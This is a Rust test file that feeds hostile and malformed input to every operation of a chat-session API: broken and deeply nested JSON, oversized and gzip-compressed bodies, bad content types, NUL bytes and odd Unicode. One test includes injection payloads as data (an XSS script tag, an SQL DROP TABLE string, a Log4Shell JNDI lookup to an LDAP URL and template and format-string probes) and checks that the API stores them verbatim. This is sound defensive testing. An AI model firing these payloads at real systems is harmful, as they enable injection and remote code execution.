//! Hostile and broken input, the same on every operation that takes it.

use chat_testkit::fixtures;
use reqwest::Method;
use serde_json::{Value, json};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

use crate::support::app::send;
use crate::support::{Answer, TestApp};

/// The operations that take a JSON body; `{id}` stands for a session.
const JSON_OPERATIONS: [(&str, &str); 7] = [
    ("POST", "/api/chat/sessions"),
    ("PUT", "/api/chat/sessions/{id}/assign"),
    ("PUT", "/api/chat/sessions/{id}/transfer"),
    ("POST", "/api/chat/sessions/{id}/messages"),
    ("PUT", "/api/chat/sessions/{id}/read"),
    ("POST", "/api/chat/sessions/{id}/typing"),
    ("PUT", "/api/chat/agents/zoe"),
];

/// A cursor of the list of sessions.
const CURSOR: &str = "AQAAAZt22qh7AZNw0G4bfECKUh8OXR96EQ";

/// `{}` as gzip. Valid once inflated for the operations without required fields.
const GZIP_OF_EMPTY_OBJECT: [u8; 22] =
    [31, 139, 8, 0, 0, 0, 0, 0, 2, 255, 171, 174, 5, 0, 67, 191, 166, 163, 2, 0, 0, 0];

/// Sends a body of JSON as an admin, who may do everything.
async fn send_body(app: &TestApp, method: &str, path: &str, body: impl Into<reqwest::Body>) -> Answer {
    let request = app.request("root", method.parse().unwrap(), path);
    send(request.header("Content-Type", "application/json").body(body)).await
}

fn utf16(text: &str) -> Vec<u8> {
    text.encode_utf16().flat_map(u16::to_le_bytes).collect()
}

/// Bodies that are no JSON objects as the operations take them. `field` is one of the operation's own.
fn broken_bodies(field: &str) -> Vec<(&'static str, Vec<u8>)> {
    let deep = "[".repeat(100_000);
    let text = |body: String| body.into_bytes();
    vec![
        ("empty", Vec::new()),
        ("blank", b" \r\n".to_vec()),
        ("null", b"null".to_vec()),
        ("an empty array", b"[]".to_vec()),
        ("an array of texts", b"[\"bob\"]".to_vec()),
        ("an array of values", b"[\"bob\", \"low\", [\"a\"], null]".to_vec()),
        ("an array of flags", b"[true]".to_vec()),
        ("an array of arrays", b"[[]]".to_vec()),
        ("a string", b"\"content\"".to_vec()),
        ("a number", b"1".to_vec()),
        ("truncated", text(format!("{{\"{field}\": "))),
        ("truncated in a string", text(format!("{{\"{field}\": \"hel"))),
        ("followed by more", b"{}{}".to_vec()),
        ("followed by garbage", b"{} x".to_vec()),
        ("a trailing comma", text(format!("{{\"{field}\": null,}}"))),
        ("a comment", b"{} // done".to_vec()),
        ("single quotes", text(format!("{{'{field}': null}}"))),
        ("a form", text(format!("{field}=1"))),
        ("deep", deep.clone().into_bytes()),
        ("deep in a field", text(format!("{{\"{field}\": {deep}"))),
        ("deep in an unknown field", text(format!("{{\"unknown\": {deep}{}}}", "]".repeat(100_000)))),
        ("deep objects", "{\"a\":".repeat(100_000).into_bytes()),
        ("a number beyond all bounds", text(format!("{{\"{field}\": 1e400}}"))),
        ("a field twice", text(format!("{{\"{field}\": null, \"{field}\": null}}"))),
        ("a number beyond all bounds in an unknown field", b"{\"unknown\": 1e400}".to_vec()),
        ("an unknown field twice", b"{\"unknown\": 1, \"unknown\": 2}".to_vec()),
        ("a byte order mark", b"\xef\xbb\xbf{}".to_vec()),
        ("UTF-16", utf16("{}")),
        ("UTF-16 with a mark", [b"\xff\xfe".to_vec(), utf16("{}")].concat()),
        ("not UTF-8", [b"{\"x".as_slice(), b"\xff\xfe", b"\": 1}"].concat()),
        ("a lone surrogate", text(format!("{{\"{field}\": \"\\ud800\"}}"))),
        ("a lone surrogate in a list", text(format!("{{\"{field}\": [\"\\udc00\"]}}"))),
        ("a raw control character", text(format!("{{\"{field}\": \"a\nb\"}}"))),
        ("more than 256 KiB", text(format!("{{\"{field}\": null, \"pad\": \"{}\"}}", "x".repeat(256 * 1024)))),
    ]
}

/// A field of the operation's body.
fn field_of(path: &str) -> &'static str {
    match path.rsplit('/').next().unwrap() {
        "sessions" => "subject",
        "assign" | "transfer" => "agentId",
        "messages" => "content",
        "read" => "messageIds",
        "typing" => "isTyping",
        "zoe" => "displayName",
        unknown => panic!("no field for {unknown}"),
    }
}

/// A body that the operation takes.
fn good_body(path: &str) -> Value {
    match field_of(path) {
        "content" => json!({ "content": "hello" }),
        "messageIds" => json!({ "messageIds": [] }),
        "isTyping" => json!({ "isTyping": true }),
        "agentId" => json!({ "agentId": "zoe" }),
        _ => json!({}),
    }
}

on_every_store! {
    async fn numbers_in_a_query_are_plain_decimal_digits(app) {
        let id = app.open_session("alice").await;
        let wrong = [
            "0", "-1", "+1", "1.5", "abc", "0x10", "1e3", "99999999999999999999", "9223372036854775808", "", "%20", "1%20",
            "%201", "1,2", "%D9%A1", "%EF%BC%91", "NaN", "null", "1_000", "%00", "1%00", "[1]",
        ];
        for wrong in wrong {
            for name in ["page", "limit"] {
                app.get("alice", &format!("/api/chat/sessions?{name}={wrong}")).await.expect_invalid(name);
            }
            let messages = format!("/api/chat/sessions/{id}/messages?limit={wrong}");
            app.get("alice", &messages).await.expect_invalid("limit");
        }
        app.get("alice", "/api/chat/sessions?limit").await.expect_invalid("limit");
        // Zeros in front do not change a number.
        app.get("alice", "/api/chat/sessions?page=01&limit=0020").await.expect(200);
    }

    async fn a_query_key_stands_once(app) {
        let id = app.open_session("alice").await;
        let message = app.say("alice", &id, "hello").await["id"].as_str().unwrap().to_owned();
        let parameters = [("page", "1"), ("cursor", CURSOR), ("limit", "5"), ("status", "active"), ("unknown", "x")];
        for (name, value) in parameters {
            let path = format!("/api/chat/sessions?{name}={value}&{name}={value}");
            app.get("alice", &path).await.expect_invalid(name);
        }
        app.get("alice", "/api/chat/sessions?page=1&p%61ge=1").await.expect_invalid("page");
        for (name, value) in [("before", message.as_str()), ("after", &message), ("limit", "5")] {
            let path = format!("/api/chat/sessions/{id}/messages?{name}={value}&{name}={value}");
            app.get("alice", &path).await.expect_invalid(name);
        }
    }

    async fn the_last_page_that_has_a_number_is_empty(app) {
        app.open_session("alice").await;
        for who in ["alice", "bob", "root"] {
            let path = "/api/chat/sessions?limit=100&page=9223372036854775807";
            let list = app.get(who, path).await.expect(200);
            let expected = json!({
                "sessions": [], "totalCount": 1, "page": i64::MAX, "totalPages": 1, "nextCursor": null,
            });
            assert_eq!(list, expected, "{who}");
        }
    }

    async fn a_status_is_spelled_as_in_the_contract(app) {
        for wrong in ["ACTIVE", "Active", "open", "", "active%20", "active,closed", "null"] {
            app.get("alice", &format!("/api/chat/sessions?status={wrong}")).await.expect_invalid("status");
        }
    }

    async fn a_broken_body_is_refused_by_every_operation_and_changes_nothing(app) {
        let id = app.open_session("alice").await;
        for (method, path) in JSON_OPERATIONS {
            let field = field_of(path);
            let path = path.replace("{id}", &id);
            for (what, body) in broken_bodies(field) {
                let answer = send_body(app, method, &path, body).await;
                assert_eq!(answer.status, 400, "{what} to {method} {path}: {}", String::from_utf8_lossy(&answer.bytes));
                // The error quotes little of the body, whatever the body was.
                assert!(answer.bytes.len() < 2_048, "{what} to {method} {path} is answered at length");
                answer.expect_error(400, "VALIDATION_FAILED");
            }
        }
        let messages = app.get("alice", &format!("/api/chat/sessions/{id}/messages")).await;
        assert_eq!(messages.header("x-chat-seq"), "1");
        assert_eq!(app.get("root", "/api/chat/sessions").await.expect(200)["totalCount"], 1);
        assert_eq!(app.get("root", "/api/chat/agents").await.expect(200), json!({ "agents": [] }));
    }

    async fn a_compressed_body_is_not_inflated(app) {
        // Inflated it would be a valid body: a server that accepts it has inflated it, and would inflate a bomb.
        for (method, path) in [("POST", "/api/chat/sessions"), ("PUT", "/api/chat/agents/zoe")] {
            let request = app.request("root", method.parse().unwrap(), path).header("Content-Type", "application/json");
            let request = request.header("Content-Encoding", "gzip").body(GZIP_OF_EMPTY_OBJECT.to_vec());
            send(request).await.expect_invalid("body");
        }
    }

    async fn the_largest_body_fits_and_one_byte_more_does_not(app) {
        let id = app.open_session("alice").await;
        let path = format!("/api/chat/sessions/{id}/messages");
        let frame = json!({ "content": "hello", "pad": "" }).to_string().len();
        for (bytes, status) in [(256 * 1024, 201), (256 * 1024 + 1, 400)] {
            let body = json!({ "content": "hello", "pad": "x".repeat(bytes - frame) }).to_string();
            assert_eq!(body.len(), bytes);
            send_body(app, "POST", &path, body.clone()).await.expect(status);
            // The same without a length in the headers.
            let pieces: Vec<Result<Vec<u8>, std::io::Error>> = body.as_bytes().chunks(50_000).map(|c| Ok(c.to_vec())).collect();
            let stream = reqwest::Body::wrap_stream(futures_util::stream::iter(pieces));
            send_body(app, "POST", &path, stream).await.expect(status);
        }
    }

    async fn a_body_that_is_announced_as_too_large_is_not_waited_for(app) {
        for (method, path) in JSON_OPERATIONS {
            let path = path.replace("{id}", &app.open_session("alice").await);
            let mut stream = TcpStream::connect(app.base.strip_prefix("http://").unwrap()).await.unwrap();
            let head = format!(
                "{method} {path} HTTP/1.1\r\nHost: chat\r\nAuthorization: Bearer {}\r\n\
                 Content-Type: application/json\r\nContent-Length: 2000000\r\n\r\n",
                app.token_of("root"),
            );
            stream.write_all(head.as_bytes()).await.unwrap();
            // Not a byte of the body is sent, so a server that waits for it never answers.
            let mut status = [0; 12];
            stream.read_exact(&mut status).await.unwrap();
            assert_eq!(&status, b"HTTP/1.1 400", "{method} {path}");
        }
    }

    async fn json_operations_take_json_only(app) {
        let id = app.open_session("alice").await;
        for (method, path) in JSON_OPERATIONS {
            let (body, path) = (good_body(path), path.replace("{id}", &id));
            let wrong = [
                "text/plain", "application/x-www-form-urlencoded", "application/xml", "application/jsonp", "text/json",
                "application/json-patch+json", "json", "*/*", "",
            ];
            for kind in wrong {
                let request = app.request("root", method.parse().unwrap(), &path).header("Content-Type", kind);
                send(request.body(body.to_string())).await.expect_invalid("Content-Type");
            }
            let request = app.request("root", method.parse().unwrap(), &path);
            send(request.body(body.to_string())).await.expect_invalid("Content-Type");
        }
        for kind in ["application/json", "Application/JSON", "application/json; charset=utf-8", "application/json ;a=b"] {
            let request = app.request("alice", Method::POST, "/api/chat/sessions").header("Content-Type", kind);
            send(request.body("{}")).await.expect(201);
        }
    }

    async fn nul_is_refused_wherever_text_is_kept(app) {
        let id = app.open_session("alice").await;
        let messages = format!("/api/chat/sessions/{id}/messages");
        for text in ["\u{0}", "a\u{0}b", "a\u{0}"] {
            app.post("alice", &messages, json!({ "content": text })).await.expect_invalid("content");
            app.post("alice", "/api/chat/sessions", json!({ "subject": text })).await.expect_invalid("subject");
            app.post("alice", "/api/chat/sessions", json!({ "tags": [text] })).await.expect_invalid("tags");
            app.post("root", "/api/chat/sessions", json!({ "userId": text })).await.expect_invalid("userId");
            let name = json!({ "displayName": text });
            app.put("root", "/api/chat/agents/zoe", name).await.expect_invalid("displayName");
        }
    }

    async fn any_other_text_comes_back_byte_for_byte(app) {
        let id = app.open_session("alice").await;
        let path = format!("/api/chat/sessions/{id}/messages");
        let texts = [
            "\u{ffff}", "\u{10ffff}", "\u{fffd}", "\u{1}\u{7f}\u{85}", "a\u{202e}b\u{2066}c\u{2069}", "\u{feff}mark",
            "e\u{301} is not \u{e9}", "Z\u{351}\u{36b}\u{343}\u{36a}\u{342}\u{36b}", "👩\u{200d}👩\u{200d}👧", "ﬀ ﷺ İ ß",
            "<script>alert(1)</script>", "</script><!--", "'; DROP TABLE chat_messages; --", "\" OR \"\"=\"", "%s%n%x",
            "${jndi:ldap://example.com}", "{{7*7}}", "\\u0000 \\", "%00%0a", " leading and trailing \t\r\n", "a\u{2028}\u{2029}b",
        ];
        for text in texts {
            let sent = app.say("alice", &id, text).await;
            assert_eq!(sent["content"], text);
            let page = app.get("alice", &format!("{path}?limit=1")).await.expect(200);
            assert_eq!(page["messages"], json!([sent]));
            let body = json!({ "subject": format!("[{text}]"), "tags": [format!("[{text}]")] });
            let session = app.post("alice", "/api/chat/sessions", body.clone()).await.expect(201);
            assert_eq!((&session["subject"], &session["tags"]), (&body["subject"], &body["tags"]));
            let stored = app.get("alice", &format!("/api/chat/sessions/{}", session["id"].as_str().unwrap())).await;
            assert_eq!(stored.expect(200), session);
        }
    }

    async fn fields_that_an_operation_does_not_know_are_ignored(app) {
        let id = app.open_assigned("alice", "bob").await;
        let session = format!("/api/chat/sessions/{id}");
        app.put("root", "/api/chat/agents/carol", json!({})).await.expect(201);
        let more = json!({
            "id": "x", "userId": "mallory", "status": "closed", "endedAt": "1999-01-01T00:00:00.000Z", "seq": 99,
            "sender": "user", "read": true, "role": "admin", "createdAt": "1999-01-01T00:00:00.000Z",
        });
        let with = |field: &str, value: Value| {
            let mut body = more.clone();
            body[field] = value;
            body
        };
        let before = app.get("alice", &session).await.expect(200);
        app.post("alice", &format!("{session}/typing"), with("isTyping", json!(true))).await.expect(204);
        app.put("alice", &format!("{session}/read"), with("messageIds", json!([]))).await.expect(204);
        let mut handed_over = before;
        handed_over["agentId"] = json!("carol");
        handed_over["agent"] = json!({ "id": "carol" });
        let transfer = app.put("bob", &format!("{session}/transfer"), with("agentId", json!("carol"))).await;
        assert_eq!(transfer.expect(200), handed_over);
        let queued = app.open_session("alice").await;
        let mut claimed = app.get("alice", &format!("/api/chat/sessions/{queued}")).await.expect(200);
        claimed["agentId"] = json!("bob");
        claimed["agent"] = json!({ "id": "bob" });
        let assign = format!("/api/chat/sessions/{queued}/assign");
        assert_eq!(app.put("bob", &assign, with("agentId", json!("bob"))).await.expect(200), claimed);
        let agent = app.put("root", "/api/chat/agents/zoe", with("displayName", json!("Zoe"))).await.expect(201);
        assert_eq!((&agent["id"], &agent["active"]), (&json!("zoe"), &json!(true)));
        assert!(agent["createdAt"].as_str().unwrap().starts_with("2026-"));
        // A close takes no body, so whatever is sent as one changes nothing.
        let closed = app.put("alice", &format!("{session}/close"), with("agentId", json!("bob"))).await.expect(200);
        handed_over["status"] = json!("closed");
        handed_over["endedAt"] = closed["endedAt"].clone();
        assert_eq!(closed, handed_over);
        assert!(closed["endedAt"].as_str().unwrap().starts_with("2026-"));
    }

    async fn a_missing_token_comes_before_everything_else(app) {
        let unknown = fixtures::session_id(404).to_string();
        for (method, path) in JSON_OPERATIONS {
            let request = app.anonymous(method.parse().unwrap(), &path.replace("{id}", &unknown));
            send(request.body("[")).await.expect_error(401, "UNAUTHENTICATED");
        }
        for path in ["/api/chat/sessions?page=0", &format!("/api/chat/sessions/{unknown}/messages?limit=0")] {
            send(app.anonymous(Method::GET, path)).await.expect_error(401, "UNAUTHENTICATED");
        }
    }

    async fn an_unknown_session_comes_before_rights_and_input(app) {
        for id in [fixtures::session_id(404).to_string(), "nonsense".to_owned()] {
            for (method, path) in JSON_OPERATIONS.into_iter().filter(|(_, path)| path.contains("{id}")) {
                for who in ["mallory", "bob", "root"] {
                    let request = app.request(who, method.parse().unwrap(), &path.replace("{id}", &id));
                    send(request.body("[")).await.expect_error(404, "SESSION_NOT_FOUND");
                }
            }
            let messages = format!("/api/chat/sessions/{id}/messages?limit=0");
            app.get("mallory", &messages).await.expect_error(404, "SESSION_NOT_FOUND");
        }
    }

    async fn a_missing_right_comes_before_input_and_state(app) {
        let open = app.open_assigned("alice", "bob").await;
        let closed = app.open_assigned("alice", "bob").await;
        app.put("alice", &format!("/api/chat/sessions/{closed}/close"), json!(null)).await.expect(200);
        for id in [&open, &closed] {
            for (method, path) in JSON_OPERATIONS.into_iter().filter(|(_, path)| path.contains("{id}")) {
                // Any agent may ask to be assigned, so for them the input comes next.
                let strangers: &[&str] = if path.ends_with("assign") { &["mallory"] } else { &["mallory", "carol"] };
                for who in strangers {
                    let request = app.request(who, method.parse().unwrap(), &path.replace("{id}", id));
                    send(request.body("[")).await.expect_error(403, "FORBIDDEN");
                }
            }
            let messages = format!("/api/chat/sessions/{id}/messages?limit=0");
            app.get("mallory", &messages).await.expect_error(403, "FORBIDDEN");
        }
        app.put("alice", "/api/chat/agents/zoe", json!({ "active": 1 })).await.expect_error(403, "FORBIDDEN");
        app.post("bob", "/api/chat/sessions", json!({ "subject": 1 })).await.expect_error(403, "FORBIDDEN");
        let for_another = json!({ "userId": "alice", "priority": "urgent" });
        app.post("mallory", "/api/chat/sessions", for_another).await.expect_error(403, "FORBIDDEN");
    }

    async fn bad_input_comes_before_the_state(app) {
        let closed = app.open_assigned("alice", "bob").await;
        app.put("alice", &format!("/api/chat/sessions/{closed}/close"), json!(null)).await.expect(200);
        for (method, path) in JSON_OPERATIONS.into_iter().filter(|(_, path)| path.contains("{id}")) {
            send_body(app, method, &path.replace("{id}", &closed), "[").await.expect_invalid("body");
        }
        let messages = format!("/api/chat/sessions/{closed}/messages");
        app.post("alice", &messages, json!({ "content": " " })).await.expect_invalid("content");
        let request = app.request("alice", Method::POST, &messages).header("Idempotency-Key", "two words");
        send(request.json(&json!({ "content": "hello" }))).await.expect_invalid("Idempotency-Key");
    }
}
